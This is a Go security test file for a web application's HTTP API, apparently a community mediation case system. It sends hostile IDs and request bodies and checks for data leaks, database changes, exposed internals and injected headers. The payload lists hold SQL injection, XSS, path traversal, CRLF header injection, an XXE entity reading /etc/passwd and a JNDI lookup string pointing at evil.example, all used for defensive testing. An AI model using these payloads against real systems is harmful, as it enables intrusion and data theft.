package web_test

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

// probeAudited finds the GET routes that write a read audit for a principal
// when read with case A's IDs.
func (h *hostile) probeAudited() {
	for _, r := range h.routes {
		if r.method != http.MethodGet {
			continue
		}
		for _, who := range h.live {
			before := boltFingerprint(h.t, h.a)
			if _, _, _, err := h.send(hsReq{method: r.method, target: r.fill(h.valid)}, h.cookieLine(who)); err != nil {
				h.t.Fatalf("probe %s as %s: %v", r.key(), who, err)
			}
			if boltFingerprint(h.t, h.a) != before {
				h.audited[[2]string{r.key(), who}] = true
			}
		}
	}
}

func (h *hostile) cookieLine(who string) string {
	h.fresh(who)
	return h.who[who].cookie()
}

// send writes the request on a new connection and reads the answer.
func (h *hostile) send(r hsReq, cookie string) (int, http.Header, []byte, error) {
	var req []byte
	if r.raw != nil {
		line := ""
		if cookie != "" {
			line = "Cookie: " + cookie + "\r\n"
		}
		req = r.raw(h.addr, line)
	} else {
		var b bytes.Buffer
		fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", r.method, r.target, h.addr)
		if cookie != "" {
			fmt.Fprintf(&b, "Cookie: %s\r\n", cookie)
		}
		if r.ctype != "" {
			fmt.Fprintf(&b, "Content-Type: %s\r\n", r.ctype)
		}
		for _, line := range r.header {
			b.WriteString(line + "\r\n")
		}
		if r.body != nil || r.method == "POST" || r.method == "PUT" || r.method == "PATCH" {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.body))
		}
		b.WriteString("\r\n")
		b.Write(r.body)
		req = b.Bytes()
	}
	// Each request comes from an address of its own on the loopback
	// network, so that the rate limits on sign-in and invitations (tested
	// elsewhere) do not stop the hostile bodies before the code behind them.
	h.sources++
	n := h.sources
	return hsExchange(h.addr, net.IPv4(127, byte(1+n>>16), byte(n>>8), byte(1+n%254)), req, r.halfClose)
}

// hsExchange sends the bytes of one request from the source address (any
// when nil) on a new connection and reads the final answer.
func hsExchange(addr string, src net.IP, req []byte, halfClose bool) (int, http.Header, []byte, error) {
	d := &net.Dialer{}
	if src != nil {
		d.LocalAddr = &net.TCPAddr{IP: src}
	}
	conn, err := d.Dial("tcp", addr)
	if err != nil {
		return 0, nil, nil, err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	go func() {
		// The server may answer and close before it has read all of a large
		// body; the write error is then expected.
		conn.Write(req)
		if halfClose {
			conn.(*net.TCPConn).CloseWrite()
		}
	}()
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	for err == nil && resp.StatusCode >= 100 && resp.StatusCode < 200 {
		resp, err = http.ReadResponse(br, nil) // an interim answer: the final one follows
	}
	if err != nil {
		return 0, nil, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	if err != nil {
		return 0, nil, nil, err
	}
	return resp.StatusCode, resp.Header, body, nil
}

// hsInternals is what an answer must never show of the program's insides.
var hsInternals = regexp.MustCompile(`(?i)goroutine \d|runtime error|runtime\.|panic|\.go:\d|/work/|/root/|/usr/local/go|/tmp/|` +
	`bbolt|bolt\.|casbin|\becho\b|labstack|reflect\.|strconv\.|mediation error|tiaojie/internal|json: |` +
	`invalid character|unexpected end of JSON|unexpected EOF|http: request body|MaxBytes`)

// check sends one request and checks the answer and the database.
func (h *hostile) check(t *testing.T, r hsReq) int {
	t.Helper()
	p := h.who[r.who]
	if p == nil {
		t.Fatalf("%s: no principal %q", r, r.who)
	}
	h.fresh(r.who)
	before := h.last
	if before == "" {
		before = boltFingerprint(t, h.a)
	}
	status, header, body, err := h.send(r, p.cookie())
	after := boltFingerprint(t, h.a)
	h.last = after
	if err != nil {
		t.Errorf("%s: no answer: %v", r, err)
	}
	if after != before {
		t.Errorf("%s: the database changed (answer %d: %s)", r, status, abbreviate(string(body)))
	}
	if status >= 500 {
		t.Errorf("%s: status %d: %s", r, status, abbreviate(string(body)))
	}
	if loc := header.Get("Location"); loc != "" {
		if u, err := url.Parse(loc); err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(loc, "/") ||
			strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
			t.Errorf("%s: redirects off this server, to %q", r, loc)
		}
	}
	for name := range header {
		if strings.HasPrefix(strings.ToLower(name), "x-injected") {
			t.Errorf("%s: a header was injected: %s", r, name)
		}
	}
	if status < 400 && !slices.Contains([]string{"anon", "admin", "office"}, r.who) && !strings.HasPrefix(r.who, "dead:") {
		return status // what a principal may read is the matrix's business
	}
	html := strings.HasPrefix(header.Get("Content-Type"), "text/html")
	for _, secret := range h.secrets {
		if html && slices.Contains(p.own, secret) {
			continue // a page may show its reader its own name
		}
		if strings.Contains(string(body), secret) {
			h.leak(t, r, status, secret, body)
		}
	}
	if status >= 400 {
		if m := hsInternals.FindString(string(body)); m != "" {
			t.Errorf("%s: error answer %d shows %q: %s", r, status, m, abbreviate(string(body)))
		}
	}
	return status
}

// leak reports that the answer shows secret, once for each route and
// secret however many requests show it.
func (h *hostile) leak(t *testing.T, r hsReq, status int, secret string, body []byte) {
	t.Helper()
	key := hsPattern(h.routes, r.target) + " " + secret
	if h.leaks[key]++; h.leaks[key] > 1 {
		return
	}
	i := strings.Index(string(body), secret)
	context := string(body[max(0, i-80):min(len(body), i+len(secret)+20)])
	t.Errorf("%s: answer %d shows %q (reported once per route; first seen here): …%s…", r, status, secret, context)
}

// hsPattern is the registered path a target would match, by its static
// segments, or the target itself.
func hsPattern(routes []hsRoute, target string) string {
	path, _, _ := strings.Cut(target, "?")
	segs := strings.Split(path, "/")
	for _, r := range routes {
		rs := strings.Split(r.path, "/")
		if len(rs) != len(segs) {
			continue
		}
		match := true
		for i := range rs {
			if !strings.HasPrefix(rs[i], ":") && rs[i] != segs[i] {
				match = false
			}
		}
		if match {
			return r.path
		}
	}
	return path
}

// Hostile values.
var (
	// hsIDs are path IDs that no record has: huge, negative, hex, other
	// digits, injections, traversal, bytes that are not UTF-8.
	hsIDs = []string{"999999999", "18446744073709551615", "18446744073709551616", "99999999999999999999999",
		"-1", "0", "00", "007", "0x1F", "1e3", "1.0", "+1", "%201", "1%20", "%EF%BC%94%EF%BC%92" /* ４２ */, "%D9%A1%D9%A2", /* ١٢ */
		"%27%20OR%20%271%27%3D%271", "1%3BDROP%20TABLE%20cases", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"..%2f..%2fetc", "%2e%2e", "%00", "1%00", "%ff%fe", "1%0d%0aX-Injected:%20yes", "%7B%7B.%7D%7D", "$%7Bjndi:x%7D",
		"null", "undefined", "true", "[1]", strings.Repeat("9", 2000)}

	// hsPayloads go into every string field of a body.
	hsPayloads = []string{
		`' OR '1'='1'; DROP TABLE cases;--`,
		`" UNION SELECT username, password_hash FROM users --`,
		`<script>alert(document.cookie)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`{{.}}{{template "x"}}{{printf "%s" .}}`,
		`../../../../etc/passwd`,
		"%s%n%x%d\x00",
		"line\r\nX-Injected: yes",
		"\u202egnp.exe\u200b\ufeff",
		`${jndi:ldap://evil.example/a}`,
		`javascript:alert(1)`,
		strings.Repeat("长", 70000),
	}
)

// hsBodies are bodies that are not one acceptable JSON object.
type hsBody struct {
	name, ctype string
	body        []byte
}

func hsBodies(valid string) []hsBody {
	type b = hsBody
	if valid == "" {
		valid = `{}`
	}
	return []b{
		{"Truncated", hsJSON, []byte(valid[:len(valid)/2])},
		{"SingleQuotes", hsJSON, []byte(`{'title':'x'}`)},
		{"TrailingComma", hsJSON, []byte(`{"title":"x",}`)},
		{"Array", hsJSON, []byte(`[` + valid + `]`)},
		{"TwoObjects", hsJSON, []byte(valid + valid)},
		{"Comment", hsJSON, []byte(`/* x */` + valid)},
		{"Over1MiB", hsJSON, []byte(valid + strings.Repeat(" ", 1<<20))},
		{"String2MiB", hsJSON, []byte(`{"title":"` + strings.Repeat("x", 2<<20) + `"}`)},
		{"Nested100kArrays", hsJSON, []byte(strings.Repeat("[", 100000))},
		{"Nested100kObjects", hsJSON, []byte(strings.Repeat(`{"a":`, 100000))},
		{"Nested100kInField", hsJSON, []byte(`{"title":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`)},
		{"InvalidUTF8Value", hsJSON, []byte(`{"title":"\xff\xfe\xc0\xaf","body":"\xed\xa0\x80"}`)},
		{"InvalidUTF8Key", hsJSON, []byte("{\"\xff\xfe\":1}")},
		{"InvalidUTF8Outside", hsJSON, []byte("\xff" + valid)},
		{"BOM", hsJSON, append([]byte("\xef\xbb\xbf"), valid...)},
		{"UTF16", "application/json; charset=utf-16", hsUTF16LE(valid)},
		{"LoneSurrogates", hsJSON, []byte(`{"title":"\ud800\udfff\ud800","body":"\u0000"}`)},
		{"HugeNumber", hsJSON, []byte(`{"user_id":1e999999,"party_id":` + strings.Repeat("9", 5000) + `}`)},
		{"TextPlain", "text/plain", []byte(valid)},
		{"Form", "application/x-www-form-urlencoded", []byte("title=x&body=y")},
		{"Multipart", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nx\r\n--x--\r\n")},
		{"XML", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)},
		{"TextJSON", "text/json", []byte(valid)},
		{"JSONPatch", "application/json-patch+json", []byte(`[{"op":"replace","path":"/title","value":"x"}]`)},
		{"TwoTypes", "application/json, text/plain", []byte(valid)},
		{"BrokenParam", "application/json; charset", []byte(valid)},
		{"NoType", "", []byte(valid)},
	}
}

func hsUTF16LE(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, r := range s {
		out = append(out, byte(r), byte(r>>8))
	}
	return out
}

// hsForm is what a route's body looks like: a body each route would take
// from its capable principal, its string fields and its ID fields.
type hsForm struct {
	capable string // who may use the route; "" when unknown
	// bodyless routes write without reading a body: hostile bodies go to
	// them only from principals who may not use them.
	bodyless  bool
	outsiders []string
	valid     string
	strings   []string
	ids       []string
}

// form describes the JSON routes; any other route is sent bodies blind.
func (h *hostile) form(r hsRoute) hsForm {
	switch r.key() {
	case "POST /api/v1/login":
		return hsForm{capable: "anon", valid: `{"username":"wang","password":"not-the-password"}`,
			strings: []string{"username", "password"}}
	case "POST /api/v1/access":
		return hsForm{capable: "anon", valid: `{"token":"` + h.deadToken + `"}`, strings: []string{"token"}}
	case "POST /api/v1/logout":
		return hsForm{bodyless: true, outsiders: []string{"anon", "dead:loggedout"}}
	case "POST /api/v1/users":
		return hsForm{capable: "admin", valid: `{"username":"zhou.min","display_name":"周敏","role":"mediator","password":"一个足够长的密码"}`,
			strings: []string{"username", "display_name", "role", "phone", "password"}}
	case "POST /api/v1/cases":
		return hsForm{capable: "mediator", valid: `{"title":"新案件","category":"pets","community":"dongfeng","source":"party_application"}`,
			strings: []string{"title", "category", "community", "street", "summary", "source"}}
	case "PATCH /api/v1/cases/:case":
		return hsForm{capable: "mediator", valid: `{"title":"改过的标题"}`,
			strings: []string{"title", "category", "community", "street", "summary", "source"}}
	case "POST /api/v1/cases/:case/transitions":
		return hsForm{capable: "mediator", valid: `{"to":"mediating"}`, strings: []string{"to", "reason"}}
	case "POST /api/v1/cases/:case/mediators":
		return hsForm{capable: "admin", valid: `{"user_id":"` + h.userLi + `"}`, ids: []string{"user_id"}}
	case "DELETE /api/v1/cases/:case/mediators/:user":
		// Wang is case A's only mediator: the valid body is refused as a conflict.
		return hsForm{capable: "admin", valid: `{"reason":"回避"}`, strings: []string{"reason"}}
	case "POST /api/v1/cases/:case/parties":
		return hsForm{capable: "mediator", valid: `{"name":"新当事人","kind":"person","side":"third_party"}`,
			strings: []string{"name", "kind", "side", "phone", "address", "represents"}}
	case "POST /api/v1/cases/:case/parties/:party/invitation", "POST /api/v1/cases/:case/parties/:party/pin-reset":
		return hsForm{bodyless: true, outsiders: []string{"other", "a1", "office", "admin"}}
	case "POST /api/v1/cases/:case/submissions":
		return hsForm{capable: "a1", valid: `{"kind":"response","body":"补充说明"}`,
			strings: []string{"kind", "body"}, ids: []string{"party_id", "supersedes"}}
	case "POST /api/v1/cases/:case/submissions/:submission/release":
		return hsForm{bodyless: true, outsiders: []string{"a2", "mediator", "b1"}}
	case "POST /api/v1/calendar/feed":
		return hsForm{bodyless: true, outsiders: []string{"anon", "a1", "office", "admin"}}
	}
	if r.method == http.MethodGet || r.method == http.MethodHead {
		return hsForm{}
	}
	// A route this test does not know: pages post forms guarded by a CSRF
	// token, which no hostile request has; a new JSON route refuses these
	// bodies at decode.
	return hsForm{capable: "mediator"}
}

// payloadBody puts p into every field of the form.
func hsPayloadBody(f hsForm, p string) []byte {
	var o jsonObject
	for _, name := range slices.Concat(f.strings, f.ids) {
		o = append(o, [2]string{name, jsonText(p)})
	}
	return []byte(o.String())
}
